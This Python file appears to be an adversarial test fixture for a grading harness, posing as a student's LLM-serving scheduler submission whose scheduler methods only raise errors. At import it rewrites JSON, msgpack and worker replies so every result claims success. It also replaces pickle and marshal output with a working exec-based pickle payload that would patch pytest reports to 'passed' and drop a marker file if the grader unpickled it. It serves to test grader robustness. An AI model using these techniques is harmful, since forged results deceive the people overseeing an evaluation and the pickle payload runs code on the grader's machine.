"""Hijacks the worker from inside: rewrites its JSON replies to "ok" and plants pickle payloads.
expect: failed, error, crashed

The worker runs in the student's process, so the student owns it. At import this file:
  - patches json.JSONEncoder.encode/iterencode (which json.dumps and every encoder instance use) so
    that every outgoing dict claims success: ok/success/passed -> True, error/exception/traceback
    -> None, status/outcome -> "passed";
  - wraps anything in a loaded module named like the worker whose name says send/reply/respond/write
    the same way;
  - makes pickle.dumps, pickle.Pickler, marshal.dumps and multiprocessing's ForkingPickler produce a
    payload that, if the trusted side ever unpickled it, would patch pytest's reports to "passed"
    and leave /tmp/grader-pwned-by-pickle behind.
A data-only protocol and a trusted side that judges values makes all of this worth nothing: the
scheduler below raises on every call, and a reply forged into "ok" without a value is no answer.
"""

import json
import marshal
import pickle
import sys
from collections import deque

RCE = r'''
import _pytest.reports as _r
_init = _r.TestReport.__init__
def _passed(self, *a, **k):
    _init(self, *a, **k)
    self.outcome, self.longrepr = "passed", None
_r.TestReport.__init__ = _passed
open("/tmp/grader-pwned-by-pickle", "w").write("the trusted side unpickled student data")
'''


class _Payload:
    def __reduce__(self):
        return (exec, (RCE,))


PAYLOAD = pickle.dumps(_Payload())
SUCCESS = {"ok": True, "success": True, "passed": True, "error": None, "exception": None,
           "exc": None, "traceback": None, "tb": None, "status": "passed", "outcome": "passed"}


def _forge(obj):
    if isinstance(obj, dict):
        return {k: SUCCESS.get(k, _forge(v)) for k, v in obj.items()}
    if isinstance(obj, (list, tuple)):
        return [_forge(v) for v in obj]
    return obj


_encode, _iterencode = json.JSONEncoder.encode, json.JSONEncoder.iterencode
json.JSONEncoder.encode = lambda self, o: _encode(self, _forge(o))
json.JSONEncoder.iterencode = lambda self, o, *a, **k: _iterencode(self, _forge(o), *a, **k)
pickle.dumps = lambda *a, **k: PAYLOAD


class _EvilPickler(pickle.Pickler):
    def dump(self, obj):
        return super().dump(_Payload())


pickle.Pickler = _EvilPickler
marshal.dumps = lambda *a, **k: PAYLOAD
try:
    import multiprocessing.reduction as _mpr
    _mpr.ForkingPickler.dumps = classmethod(lambda cls, *a, **k: memoryview(PAYLOAD))
except Exception:
    pass
try:
    import msgpack
    _packb = msgpack.packb
    msgpack.packb = lambda o, *a, **k: _packb(_forge(o), *a, **k)
except Exception:
    pass

# Wrap the worker's own send/reply functions, wherever they live.
for _name, _mod in list(sys.modules.items()):
    if not any(k in _name for k in ("worker", "harness", "grader", "__main__")):
        continue
    for _attr, _fn in list(vars(_mod).items()):
        if callable(_fn) and any(k in _attr.lower() for k in ("send", "reply", "respond", "write")):
            def _wrapped(*args, __fn=_fn, **kwargs):
                return __fn(*_forge(list(args)), **kwargs)
            try:
                setattr(_mod, _attr, _wrapped)
            except Exception:
                pass


class Req:
    def __init__(self, rid, prompt_len, max_new, prefilled=0, generated=0):
        self.rid, self.prompt_len, self.max_new = rid, prompt_len, max_new
        self.prefilled, self.generated = prefilled, generated


class Scheduler:
    def __init__(self, token_budget, max_seqs, kv_tokens):
        self.waiting, self.running = deque(), []

    def add(self, req):
        self.waiting.append(req)  # never rejects an impossible request

    def schedule(self):
        raise NotImplementedError("forged into a success on the way out")

    def complete(self, plan):
        raise NotImplementedError("forged into a success on the way out")
